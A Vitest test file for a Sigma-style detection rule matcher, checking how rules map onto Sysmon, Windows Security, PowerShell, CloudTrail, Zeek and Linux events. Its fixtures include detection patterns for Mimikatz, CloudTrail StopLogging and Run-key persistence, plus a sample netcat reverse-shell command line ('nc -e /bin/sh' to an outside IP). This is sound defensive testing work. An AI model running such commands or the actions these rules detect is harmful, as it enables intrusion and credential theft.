import { describe, expect, it } from 'vitest';
import { matcher, SYSMON } from './test-helpers.js';

const procCreation = { sel: { 'Image|endswith': '\\whoami.exe', 'CommandLine|contains': '/all' }, condition: 'sel' };

describe('logsource is enforced strictly', () => {
  it('process_creation is Sysmon 1 or Security 4688, never another channel with the same id', () => {
    const m = matcher(procCreation);
    const fields = { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' };
    expect(m({ Channel: SYSMON, EventID: 1, ...fields })).toBe(true);
    expect(m({ Channel: 'Security', EventID: 1, ...fields })).toBe(false);
    expect(m({ Channel: SYSMON, EventID: 4688, ...fields })).toBe(false);
    expect(m({ Channel: 'Application', EventID: 1, ...fields })).toBe(false);
    expect(m(fields)).toBe(false); // no channel at all: no Windows logsource
  });
  it('Security 4688 maps Sysmon field names to its own', () => {
    const m = matcher(procCreation);
    expect(m({ Channel: 'Security', EventID: 4688, NewProcessName: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' })).toBe(true);
    const parent = matcher({ sel: { 'ParentImage|endswith': '\\winword.exe' }, condition: 'sel' });
    expect(parent({ Channel: 'Security', EventID: 4688, ParentProcessName: 'C:\\Office\\WINWORD.EXE' })).toBe(true);
  });
  it('Security-service rules keep native names and are not remapped', () => {
    const m = matcher({ sel: { EventID: 4688, 'NewProcessName|endswith': '\\whoami.exe' }, condition: 'sel' }, { product: 'windows', service: 'security' });
    expect(m({ Channel: 'Security', EventID: 4688, NewProcessName: 'C:\\whoami.exe' })).toBe(true);
    expect(m({ Channel: SYSMON, EventID: 4688, NewProcessName: 'C:\\whoami.exe' })).toBe(false);
  });
  it('accepts the Winlogbeat shape as well as the flat one', () => {
    const m = matcher(procCreation);
    const wlb = {
      '@timestamp': '2024-01-01T00:00:00Z',
      event: { code: '1', module: 'sysmon' },
      winlog: { channel: SYSMON, event_id: 1, event_data: { Image: 'C:\\Windows\\System32\\whoami.exe', CommandLine: 'whoami /all' } },
    };
    expect(m(wlb)).toBe(true);
    const flatDotted = { 'winlog.channel': SYSMON, 'winlog.event_id': 1, 'winlog.event_data.Image': 'C:\\x\\whoami.exe', 'winlog.event_data.CommandLine': 'whoami /all' };
    expect(m(flatDotted)).toBe(true);
  });
  it('resolves System fields (EventID, Channel, Provider_Name, Computer) in both shapes', () => {
    const m = matcher({ sel: { EventID: 7045, Provider_Name: 'Service Control Manager', Computer: 'ws1' }, condition: 'sel' }, { product: 'windows', service: 'system' });
    expect(m({ Channel: 'System', EventID: 7045, Provider_Name: 'Service Control Manager', Computer: 'WS1' })).toBe(true);
    expect(m({ winlog: { channel: 'System', event_id: 7045, provider_name: 'Service Control Manager', computer_name: 'ws1' } })).toBe(true);
    expect(m({ winlog: { channel: 'System', event_id: 7040, provider_name: 'Service Control Manager', computer_name: 'ws1' } })).toBe(false);
  });
  it('PowerShell script blocks come from 4104 on the PowerShell operational channel only', () => {
    const m = matcher({ sel: { 'ScriptBlockText|contains': 'Invoke-Mimikatz' }, condition: 'sel' }, { product: 'windows', category: 'ps_script' });
    expect(m({ Channel: 'Microsoft-Windows-PowerShell/Operational', EventID: 4104, ScriptBlockText: 'invoke-mimikatz -x' })).toBe(true);
    expect(m({ Channel: 'Microsoft-Windows-PowerShell/Operational', EventID: 4103, ScriptBlockText: 'invoke-mimikatz -x' })).toBe(false);
    expect(m({ Channel: 'Windows PowerShell', EventID: 4104, ScriptBlockText: 'invoke-mimikatz -x' })).toBe(false);
  });
  it('registry_add needs Sysmon 12 with EventType CreateKey', () => {
    const m = matcher({ sel: { 'TargetObject|contains': '\\Run\\' }, condition: 'sel' }, { product: 'windows', category: 'registry_add' });
    const base = { Channel: SYSMON, EventID: 12, TargetObject: 'HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x' };
    expect(m({ ...base, EventType: 'CreateKey' })).toBe(true);
    expect(m({ ...base, EventType: 'DeleteKey' })).toBe(false);
  });
});

describe('non-Windows logsources', () => {
  it('AWS CloudTrail: raw top-level records and ECS aws.cloudtrail', () => {
    const m = matcher({ sel: { eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' }, condition: 'sel' }, { product: 'aws', service: 'cloudtrail' });
    expect(m({ eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging', awsRegion: 'us-east-1' })).toBe(true);
    expect(m({ event: { module: 'aws', dataset: 'aws.cloudtrail', action: 'StopLogging', provider: 'cloudtrail.amazonaws.com' } })).toBe(true);
    expect(m({ event: { module: 'aws', dataset: 'aws.cloudtrail', action: 'StartLogging', provider: 'cloudtrail.amazonaws.com' } })).toBe(false);
    expect(m({ event: { module: 'zeek', dataset: 'zeek.dns' }, eventSource: 'cloudtrail.amazonaws.com', eventName: 'StopLogging' })).toBe(false);
  });
  it('Zeek: service from event.dataset, fields under zeek.<log>.*', () => {
    const m = matcher({ sel: { 'query|endswith': '.onion' }, condition: 'sel' }, { product: 'zeek', service: 'dns' });
    expect(m({ event: { module: 'zeek', dataset: 'zeek.dns' }, zeek: { dns: { query: 'abc.ONION' } } })).toBe(true);
    expect(m({ event: { module: 'zeek', dataset: 'zeek.http' }, zeek: { dns: { query: 'abc.onion' } } })).toBe(false);
  });
  it('Linux process_creation from ECS process fields', () => {
    const m = matcher({ sel: { 'Image|endswith': '/nc', 'CommandLine|contains': ' -e ' }, condition: 'sel' }, { product: 'linux', category: 'process_creation' });
    const e = { event: { category: ['process'], type: ['start'], module: 'auditd' }, host: { os: { type: 'linux' } }, process: { executable: '/usr/bin/nc', command_line: 'nc -e /bin/sh 1.2.3.4 80' } };
    expect(m(e)).toBe(true);
    expect(m({ ...e, host: { os: { type: 'windows' } }, event: { category: ['process'], type: ['start'] } })).toBe(false);
  });
});
